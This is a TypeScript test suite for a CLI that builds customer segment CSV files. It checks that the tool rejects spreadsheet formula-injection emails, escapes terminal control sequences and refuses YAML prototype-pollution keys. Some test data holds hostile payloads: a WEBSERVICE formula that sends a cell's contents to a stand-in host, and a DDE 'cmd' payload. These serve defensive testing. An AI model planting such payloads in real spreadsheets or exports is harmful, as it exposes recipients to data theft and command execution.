/**
 * Hostile data and definitions (issue 12): no formula through a "valid" email, no identifier where
 * it does not belong, messages that cannot be forged.
 */
import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "./helpers/run-cli.js";

let work: string;
beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), "audience-hostile-"));
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

let n = 0;
/** A shop folder with these contacts, orders and segments; returns its config path. */
async function shop(contacts: string[], segments: string, orders?: string[]): Promise<string> {
  const dir = join(work, `shop${n++}`);
  await rm(dir, { recursive: true, force: true });
  await import("node:fs/promises").then((fs) => fs.mkdir(dir));
  await writeFile(join(dir, "contacts.csv"), contacts.join("\n") + "\n");
  await writeFile(
    join(dir, "orders.csv"),
    (orders ?? ["order_id,customer_id,created_at,total", "1,c1,2026-06-01 10:00:00,10.00"]).join(
      "\n",
    ) + "\n",
  );
  await writeFile(join(dir, "segments.yaml"), segments);
  await writeFile(
    join(dir, "audience.yaml"),
    "contacts: contacts.csv\norders: orders.csv\nsegments: segments.yaml\nas_of: 2026-06-30\ndefault_country: FR\n",
  );
  return join(dir, "audience.yaml");
}

const HEADER = "customer_id,email,phone,first_name,email_consent,sms_consent";

describe("no formula through a valid-looking email", () => {
  it("=WEBSERVICE(…)@x.com and a DDE payload are invalid emails, never written", async () => {
    const config = await shop(
      [
        HEADER,
        'c1,"=WEBSERVICE(""http://evil.example/""&A1)@x.com",,Ann,yes,no',
        "c2,=cmd|'/C calc'!A0@x.com,,Bob,yes,no",
        "c3,ok@example.com,,Cid,yes,no",
      ],
      "segments:\n  all:\n    where: known_contact\n    channel: email\n",
    );
    const out = join(work, `out${n}`);
    const run = await runCli(["build", "--config", config, "--out", out]);
    expect(run.code).toBe(0);
    expect(run.stderr).toContain("2 × invalid email left out");
    expect(await readFile(join(out, "all.csv"), "utf8")).toBe(
      "customer_id,email,phone,first_name,last_name\r\nc3,ok@example.com,,Cid,\r\n",
    );
  });

  it("the same address in NFC and NFD is one person", async () => {
    const config = await shop(
      [
        HEADER,
        "c1,\u00e9lo\u00efse@exemple.fr,,A,yes,no",
        "c2,e\u0301loi\u0308se@exemple.fr,,B,yes,no",
      ],
      "segments:\n  all:\n    where: known_contact\n    channel: email\n",
    );
    const out = join(work, `out${n}`);
    expect((await runCli(["build", "--config", config, "--out", out, "-q"])).code).toBe(0);
    const rows = (await readFile(join(out, "all.csv"), "utf8")).split("\r\n").filter(Boolean);
    expect(rows).toEqual([
      "customer_id,email,phone,first_name,last_name",
      "c1,\u00e9lo\u00efse@exemple.fr,,A,",
    ]);
  });
});

describe("no identifier where it does not belong", () => {
  const contacts = [
    HEADER,
    "c1,a@example.com,06 39 98 00 01,Ann,yes,no",
    "c2,b@example.com,06 39 98 00 02,Bob,yes,yes",
  ];

  it("an email segment writes the phone column only for members who agreed to SMS; validate warns", async () => {
    const config = await shop(
      contacts,
      "segments:\n  mail:\n    where: known_contact\n    channel: email\n    columns: [phone]\n",
    );
    const out = join(work, `out${n}`);
    expect((await runCli(["build", "--config", config, "--out", out, "-q"])).code).toBe(0);
    expect(await readFile(join(out, "mail.csv"), "utf8")).toBe(
      "customer_id,email,phone,first_name,last_name,phone\r\n" +
        "c1,a@example.com,,Ann,,\r\n" +
        "c2,b@example.com,,Bob,,'+33639980002\r\n",
    );
    const validate = await runCli(["validate", "--config", config]);
    expect(validate.stdout + validate.stderr).toContain(
      "columns: phone in a email segment is written only for members who agreed to SMS",
    );
  });

  it("--hash with a profile that has no hashed form is an error, nothing written", async () => {
    const config = await shop(contacts, "segments:\n  mail:\n    where: known_contact\n");
    const out = join(work, `out${n}`);
    const run = await runCli(["build", "--config", config, "--out", out, "--hash", "-q"]);
    expect([run.code, run.stdout, run.stderr]).toEqual([
      2,
      "",
      'error --hash: segment "mail" is written with the generic profile, which has no hashed form\n' +
        "  hint: hashed profiles: meta, google-ads (--format meta or --format google-ads)\n",
    ]);
  });

  it("a hashed file never carries a clear identifier; the manifest records what was hashed", async () => {
    const config = await shop(
      contacts,
      "segments:\n  mail:\n    where: known_contact\n    columns: [email]\n  plain:\n    where: known_contact\n",
    );
    const out = join(work, `out${n}`);
    const run = await runCli([
      "build",
      "--config",
      config,
      "--out",
      out,
      "--hash",
      "--format",
      "meta",
      "-q",
    ]);
    expect([run.code, run.stderr]).toEqual([
      1,
      'error --hash: segment "mail" lists email in columns: a hashed file never carries an identifier in clear\n' +
        "  hint: remove these columns from the segment (the profile's own columns carry them, hashed)\n",
    ]);
    const ok = await runCli([
      "build",
      "--config",
      config,
      "--out",
      out,
      "--hash",
      "--format",
      "meta",
      "--only",
      "plain",
      "-q",
    ]);
    expect(ok.code).toBe(0);
    const manifest = JSON.parse(await readFile(join(out, "manifest.json"), "utf8")) as {
      segments: { id: string; hashed: boolean }[];
    };
    expect(manifest.segments.map((s) => [s.id, s.hashed])).toEqual([["plain", true]]);
    expect(await readFile(join(out, "plain.csv"), "utf8")).not.toContain("@example.com");
  });
});

describe("messages that cannot be forged", () => {
  it("control characters and escape sequences from the data are shown escaped on stderr", async () => {
    const config = await shop(
      [HEADER, "c1,a@example.com,,Ann,yes,no"],
      "segments:\n  all:\n    where: known_contact\n",
      [
        "order_id,customer_id,created_at,total",
        "1,c1,2026-06-01 10:00:00,\u001b[31mred\u0007",
        '2,c1,2026-06-01 10:00:00,"12\nerror fake line"',
      ],
    );
    const run = await runCli(["count", "--config", config, "-q"]);
    expect(run.code).toBe(0);
    expect(run.stderr).toContain("invalid number in total (\\x1b[31mred\\x07)");
    expect(run.stderr).toContain("invalid number in total (12\\nerror fake line)");
    // eslint-disable-next-line no-control-regex -- no raw control character may reach the terminal
    expect(run.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(run.stderr.split("\n").filter((l) => l.startsWith("error"))).toEqual([]);
  });

  it("__proto__ and constructor keys are unknown keys; !!binary and other tags are named", async () => {
    const config = await shop(
      [HEADER],
      "segments:\n  a:\n    where: known_contact\n    __proto__: {channel: sms}\n    constructor: 1\n" +
        "  b:\n    where: !!binary aGVsbG8=\n  c:\n    where: !foo known_contact\n",
    );
    const run = await runCli(["validate", "--config", config]);
    expect(run.code).toBe(1);
    const lines = (run.stdout + run.stderr).split("\n").filter((l) => /: (error|warning) /.test(l));
    expect(lines.map((l) => l.replace(/^.*segments\.yaml:/, ""))).toEqual([
      '4:5: error UNKNOWN_KEY: unknown key "segments.a.__proto__"',
      '5:5: error UNKNOWN_KEY: unknown key "segments.a.constructor"',
      '7:21: error YAML_TAG: "segments.b.where" has the YAML tag !!binary: audience reads plain values only',
      "9:12: warning YAML_WARNING: Unresolved tag: !foo",
      '9:17: error YAML_TAG: "segments.c.where" has the YAML tag !foo: audience reads plain values only',
    ]);
  });
});

/**
 * `build --out OUT` and `count --json` with the memory engine, then with `--engine duckdb` (its
 * reading in the database, or the TypeScript path it takes): the same segment files and the same
 * --json. Returns the memory engine's count.
 */
async function bothEngines(config: string, out: string): Promise<{ stdout: string }> {
  const results: { files: Record<string, string>; json: string }[] = [];
  for (const engine of [[], ["--engine", "duckdb"]]) {
    const dir = engine.length === 0 ? out : `${out}-duckdb`;
    const build = await runCli(["build", "--config", config, "--out", dir, "-q", ...engine]);
    expect([build.code, build.stderr]).toEqual([0, ""]);
    const count = await runCli(["count", "--config", config, "--json", ...engine]);
    expect(count.code).toBe(0);
    const files: Record<string, string> = {};
    for (const name of (await readdir(dir)).filter((f) => f.endsWith(".csv")).sort())
      files[name] = await readFile(join(dir, name), "utf8");
    results.push({ files, json: count.stdout });
  }
  expect(results[1]).toEqual(results[0]);
  return { stdout: results[0].json };
}

describe("deterministic whatever the row order", () => {
  it("shuffling the rows of every input (contacts, orders and their lines, events, lists) gives byte-identical files and --json", async () => {
    const contacts = [
      HEADER,
      "c1,a@example.com,06 39 98 00 01,Ann,yes,yes",
      "c2,b@example.com,06 39 98 00 02,Bob,yes,no",
      "c3,c@example.com,,Cid,no,no",
    ];
    // Same-day orders at different times, orders at one instant, multi-line orders, orders whose
    // id says the opposite of the clock: the cases where file order used to decide.
    const orders: string[][] = [
      [
        "9,c1,2026-06-01 10:00:00,paid,web,10,Sérum,Soin",
        "9,c1,2026-06-01 10:00:00,paid,web,10,Baume,Soin",
      ],
      ["10,c1,2026-06-01 09:00:00,paid,pos,5,Crème,Soin"],
      ["11,c1,2026-05-01 09:00:00,paid,app,7,Huile,Corps"],
      [
        "20,c2,2026-06-10 10:00:00,paid,web,8,Savon,Corps",
        "20,c2,2026-06-10 10:00:00,paid,web,8,Savon,Bain",
      ],
      ["21,c2,2026-06-10 10:00:00,paid,pos,9,Lait,Corps"],
      ["100,c2,2026-06-10T08:00:00Z,paid,app,4,Gel,Bain"],
      ["30,c3,2026-04-01 10:00:00,paid,web,3,Gel,Bain"],
      ["31,c3,2026-04-01,paid,pos,2,Savon,Bain"],
      // Not counted: its status is in --json's order_statuses, by name whichever came first.
      ["32,c3,2026-04-02 10:00:00,cancelled,web,50,Gel,Bain"],
    ];
    const events = [
      "c1,visit,2026-06-02T10:00:00Z",
      "c1,visit,2026-06-03T10:00:00Z",
      "c2,visit,2026-06-03T10:00:00Z",
      "c3,open,2026-06-04T10:00:00Z",
    ];
    const lists = ["Newsletter,c1", "Club VIP,c1", "Club VIP,c2", "Zeta,c1", "Alpha,c3"];
    const segments =
      "segments:\n  all:\n    where: orders_count >= 1\n    channel: none\n" +
      "    columns: [last_product, first_order_date, last_order_date, orders_count, total_spent," +
      " first_order_channel, last_order_channel, last_category, products, categories, lists]\n" +
      "  visitors:\n    where: 'events(\"visit\") >= 1'\n    channel: email\n";
    const header = "order_id,customer_id,created_at,status,channel,total,product,category";
    const run = async (c: string[], o: string[][], e: string[], l: string[]) => {
      const config = await shop(c, segments, [header, ...o.flat()]);
      const dir = join(config, "..");
      await writeFile(join(dir, "events.csv"), ["customer_id,type,occurred_at", ...e].join("\n"));
      await writeFile(join(dir, "lists.csv"), ["list,customer_id", ...l].join("\n"));
      await writeFile(
        config,
        (await readFile(config, "utf8")) + "events: events.csv\nlists: lists.csv\n",
      );
      const out = join(work, `det${n}`);
      const count = await bothEngines(config, out);
      return {
        all: await readFile(join(out, "all.csv"), "utf8"),
        visitors: await readFile(join(out, "visitors.csv"), "utf8"),
        json: count.stdout.replaceAll(dir, "SHOP"),
      };
    };
    const reference = await run(contacts, orders, events, lists);
    // c1's last order is 9 (10:00), not 10 (09:00, a later id); of its lines, Baume sorts first.
    // c2: 100 (08:00 UTC) first; 20 and 21 at one instant, 21 the later id. c3: a date without a
    // time (31) is its midnight. Products by first purchase, then name; lists by name.
    expect(reference.all.split("\r\n").slice(1)).toEqual([
      'c1,a@example.com,+33639980001,Ann,,Baume,2026-05-01,2026-06-01,3,22,app,web,Soin,"Huile, Crème, Baume, Sérum","Corps, Soin","Club VIP, Newsletter, Zeta"',
      'c2,b@example.com,+33639980002,Bob,,Lait,2026-06-10,2026-06-10,3,21,app,pos,Corps,"Gel, Lait, Savon","Bain, Corps",Club VIP',
      'c3,c@example.com,,Cid,,Gel,2026-04-01,2026-04-01,2,5,pos,web,Bain,"Savon, Gel",Bain,Alpha',
      "",
    ]);
    const fc = await import("fast-check");
    const shuffled = <T>(items: readonly T[]) =>
      fc.shuffledSubarray([...items], { minLength: items.length, maxLength: items.length });
    await fc.assert(
      fc.asyncProperty(
        shuffled(contacts.slice(1)),
        shuffled(orders),
        fc.array(fc.boolean(), { minLength: orders.length, maxLength: orders.length }),
        shuffled(events),
        shuffled(lists),
        async (c, o, flip, e, l) => {
          const lines = o.map((order, i) => (flip[i] ? [...order].reverse() : order));
          expect(await run([HEADER, ...c], lines, e, l)).toEqual(reference);
        },
      ),
      { numRuns: 8, seed: 12 },
    );
  }, 180_000);

  it("shuffled duplicate contact rows that disagree, tags across rows and orders that name the buyer differently give byte-identical files and --json", async () => {
    const header = "customer_id,email,first_name,last_name,created_at,city,zip,tags,lists";
    const contacts = [
      "c1,a@example.com,Ann,Smith,2025-03-01,Paris,,vip,Newsletter",
      "c1,,Anne,,2025-01-15,,75011,promo;vip,",
      "c1,,Annie,Jones,,Lyon,69001,late,Club",
      "c2,b@example.com,Bob,,2025-02-01,,,b,",
      "c2,,Robert,Martin,2025-02-01,Nice,,a,",
      "c3,c@example.com,Cid,,,,,,",
    ];
    // o1 is in no contact row; c3's contact row has only a first name; c1's has it all.
    const orders: string[][] = [
      ["40,o1,2026-03-01 10:00:00,10,Olga,Old,Paris,75001"],
      ["41,o1,2026-05-01 10:00:00,10,Olga,New,Lyon,"],
      ["42,o1,2026-05-01 10:00:00,5,,,,"],
      ["43,o1,2026-04-01,5,Ola,Mid,Nice,06000", "43,o1,2026-04-01,5,,,,"],
      ["50,c1,2026-06-01,10,Zed,Zed,Zed,00000"],
      ["60,c3,2026-02-01,10,Cyd,Old,Brest,29200"],
      ["61,c3,2026-02-02,10,Cyd,New,Caen,14000"],
    ];
    const segments =
      "segments:\n  all:\n    where: known_contact or orders_count >= 1\n    channel: none\n" +
      "    columns: [city, zip, signup_date, tags, lists, orders_count]\n";
    const ordersHeader = "order_id,customer_id,created_at,total,first_name,last_name,city,zip";
    const run = async (c: string[], o: string[][]) => {
      const config = await shop([header, ...c], segments, [ordersHeader, ...o.flat()]);
      const dir = join(config, "..");
      const out = join(work, `det${n}`);
      const count = await bothEngines(config, out);
      return {
        all: await readFile(join(out, "all.csv"), "utf8"),
        json: count.stdout.replaceAll(dir, "SHOP"),
      };
    };
    const reference = await run(contacts, orders);
    // c1: the earliest row's first name and zip (2025-01-15), then the other dated row's last
    // name and city; contacts win over orders. c2: two rows of one day, the name that sorts
    // first. c3 and o1: what the contacts lack, from the latest order that has it, as one block
    // (o1's latest, 41, has no zip; 42 is later but names no one). Tags and lists by name.
    expect(reference.all.split("\r\n")).toEqual([
      "customer_id,email,phone,first_name,last_name,city,zip,signup_date,tags,lists,orders_count",
      'c1,a@example.com,,Anne,Smith,Paris,75011,2025-01-15,"late, promo, vip","Club, Newsletter",1',
      'c2,b@example.com,,Bob,Martin,Nice,,2025-02-01,"a, b",,0',
      "c3,c@example.com,,Cid,New,Caen,14000,,,,2",
      "o1,,,Olga,New,Lyon,,,,,4",
      "",
    ]);
    const fc = await import("fast-check");
    const shuffled = <T>(items: readonly T[]) =>
      fc.shuffledSubarray([...items], { minLength: items.length, maxLength: items.length });
    await fc.assert(
      fc.asyncProperty(
        shuffled(contacts),
        shuffled(orders),
        fc.array(fc.boolean(), { minLength: orders.length, maxLength: orders.length }),
        async (c, o, flip) => {
          const lines = o.map((order, i) => (flip[i] ? [...order].reverse() : order));
          expect(await run(c, lines)).toEqual(reference);
        },
      ),
      { numRuns: 8, seed: 12 },
    );
  }, 180_000);
  it("shuffled rows without an id before the rows with the id carrying their email or phone, and phones shared by customers without an id, give byte-identical files and --json", async () => {
    const header = "customer_id,email,phone,first_name,created_at";
    const contacts = [
      // b@ is c1's second email: its row without an id is c1's, read first or last.
      ",b@example.com,,Bea,",
      "c1,a@example.com,,Ann,2025-01-01",
      "c1,b@example.com,,,",
      // One family address, two ids: rows without an id go to f1 (sorts first), read when they may.
      ",fam@example.com,,Kid,",
      "f2,fam@example.com,,Sue,",
      "f1,fam@example.com,,Sam,",
      // A landline of two customers without an id: its phone-only rows are ana's (sorts first).
      ",bea@example.com,06 39 98 00 21,Bea,",
      ",ana@example.com,06 39 98 00 21,Ana,",
      ",,06 39 98 00 21,Phone,",
      // A phone-only row and the row that brings the email: one customer.
      ",,06 39 98 00 22,Cy,",
      ",cy@example.com,06 39 98 00 22,,",
      // A phone an order with an id carries: the phone-only rows are c7's, not ann's.
      ",ann@example.com,06 39 98 00 23,Ann,",
      ",,06 39 98 00 23,Landline,",
    ];
    const orders: string[][] = [
      ["1,,fam@example.com,,2026-05-01 10:00:00,10"],
      ["2,,,06 39 98 00 24,2026-05-02 10:00:00,20"],
      ["3,o2,,06 39 98 00 24,2026-05-03 10:00:00,30"],
      ["4,c7,,06 39 98 00 23,2026-05-04 10:00:00,5"],
      ["5,,,06 39 98 00 23,2026-05-05 10:00:00,6"],
      ["6,,dee@example.com,06 39 98 00 21,2026-05-06 10:00:00,7"],
      ["7,,zed@example.com,,2026-05-07 10:00:00,8"],
      ["8,o1,zed@example.com,,2026-05-08 10:00:00,9"],
      ["9,o0,zed@example.com,06 39 98 00 25,2026-05-09 10:00:00,10"],
    ];
    const events = [
      ",,06 39 98 00 25,visit,2026-05-10",
      ",zed@example.com,,visit,2026-05-11",
      "o3,zed@example.com,,open,2026-05-12",
    ];
    const lists = [
      "Fans,,,06 39 98 00 24",
      "Fans,,b@example.com,",
      "Club,o2,,",
      "Club,,,06 39 98 00 21",
    ];
    const segments =
      "segments:\n  all:\n    where: orders_count >= 0\n    channel: none\n" +
      "    columns: [known_contact, orders_count, total_spent, lists]\n" +
      "  visitors:\n    where: 'events(\"visit\") >= 1'\n    channel: none\n";
    const ordersHeader = "order_id,customer_id,email,phone,created_at,total";
    const run = async (c: string[], o: string[][], e: string[], l: string[]) => {
      const config = await shop([header, ...c], segments, [ordersHeader, ...o.flat()]);
      const dir = join(config, "..");
      await writeFile(
        join(dir, "events.csv"),
        ["customer_id,email,phone,type,occurred_at", ...e].join("\n"),
      );
      await writeFile(join(dir, "lists.csv"), ["list,customer_id,email,phone", ...l].join("\n"));
      await writeFile(
        config,
        (await readFile(config, "utf8")) + "events: events.csv\nlists: lists.csv\n",
      );
      const out = join(work, `det${n}`);
      const count = await bothEngines(config, out);
      return {
        all: await readFile(join(out, "all.csv"), "utf8"),
        visitors: await readFile(join(out, "visitors.csv"), "utf8"),
        json: count.stdout.replaceAll(dir, "SHOP"),
      };
    };
    const reference = await run(contacts, orders, events, lists);
    const rows = reference.all.split("\r\n").slice(1, -1);
    // customer_id, else the email.
    const keys = rows.map((r) => r.split(",")[0] || r.split(",")[1]);
    expect(keys.sort()).toEqual([
      "ana@example.com",
      "ann@example.com",
      "bea@example.com",
      "c1",
      "c7",
      "cy@example.com",
      "dee@example.com",
      "f1",
      "f2",
      "o0",
      "o1",
      "o2",
      "o3",
    ]);
    const fc = await import("fast-check");
    const shuffled = <T>(items: readonly T[]) =>
      fc.shuffledSubarray([...items], { minLength: items.length, maxLength: items.length });
    await fc.assert(
      fc.asyncProperty(
        shuffled(contacts),
        shuffled(orders),
        shuffled(events),
        shuffled(lists),
        async (c, o, e, l) => {
          expect(await run(c, o, e, l)).toEqual(reference);
        },
      ),
      { numRuns: 8, seed: 12 },
    );
  }, 180_000);

  it("shuffled identity cases — an id with two emails and phones, rows matched by the second, two ids sharing an email, lines without a product — give byte-identical files and --json", async () => {
    const header = "customer_id,email,phone,first_name,created_at";
    const contacts = [
      // d1: two emails and two phones; the earliest signup's are kept, an undated row's never
      // (even when it sorts first).
      "d1,d1-new@example.com,06 39 98 00 12,Dan,2025-03-10",
      "d1,d1-old@example.com,06 39 98 00 11,Dan,2025-01-10",
      "d1,a-d1@example.com,,Dan,",
      // One family address, two customer ids: rows without an id go to s1 (sorts first).
      "s2,family@example.com,,Sue,2025-02-01",
      "s1,family@example.com,,Sam,2025-02-01",
      "e1,,,Eve,2025-01-01",
    ];
    const orders: string[][] = [
      // Matched by d1's second email, by its second phone: d1's orders.
      ["80,,d1-new@example.com,,2026-05-01 10:00:00,5,Sérum,Soin"],
      ["81,,,06 39 98 00 12,2026-05-02 10:00:00,5,Baume,Soin"],
      ["82,,family@example.com,,2026-05-03 10:00:00,5,Savon,Bain"],
      // e1's contact row has no email: of its orders', the one that sorts first.
      ["83,e1,zed@example.com,,2026-05-04 10:00:00,5,Gel,Bain"],
      ["84,e1,amy@example.com,,2026-05-05 10:00:00,5,Gel,Bain"],
      // Lines without a product: the category that sorts first.
      [
        "85,x1,,,2026-05-06 10:00:00,5,,Soin",
        "85,x1,,,2026-05-06 10:00:00,5,,",
        "85,x1,,,2026-05-06 10:00:00,5,,Bain",
      ],
    ];
    const segments =
      "segments:\n  all:\n    where: known_contact or orders_count >= 1\n    channel: none\n" +
      "    columns: [orders_count, last_product, last_category]\n";
    const ordersHeader = "order_id,customer_id,email,phone,created_at,total,product,category";
    const run = async (c: string[], o: string[][]) => {
      const config = await shop([header, ...c], segments, [ordersHeader, ...o.flat()]);
      const dir = join(config, "..");
      const out = join(work, `det${n}`);
      const count = await bothEngines(config, out);
      return {
        all: await readFile(join(out, "all.csv"), "utf8"),
        json: count.stdout.replaceAll(dir, "SHOP"),
      };
    };
    const reference = await run(contacts, orders);
    expect(reference.all.split("\r\n")).toEqual([
      "customer_id,email,phone,first_name,last_name,orders_count,last_product,last_category",
      "d1,d1-old@example.com,+33639980011,Dan,,2,Baume,Soin",
      "e1,amy@example.com,,Eve,,2,Gel,Bain",
      "s1,family@example.com,,Sam,,1,Savon,Bain",
      "s2,family@example.com,,Sue,,0,,",
      "x1,,,,,1,,Bain",
      "",
    ]);
    const fc = await import("fast-check");
    const shuffled = <T>(items: readonly T[]) =>
      fc.shuffledSubarray([...items], { minLength: items.length, maxLength: items.length });
    await fc.assert(
      fc.asyncProperty(
        shuffled(contacts),
        shuffled(orders),
        fc.array(fc.boolean(), { minLength: orders.length, maxLength: orders.length }),
        async (c, o, flip) => {
          const lines = o.map((order, i) => (flip[i] ? [...order].reverse() : order));
          expect(await run(c, lines)).toEqual(reference);
        },
      ),
      { numRuns: 8, seed: 12 },
    );
  }, 180_000);
});
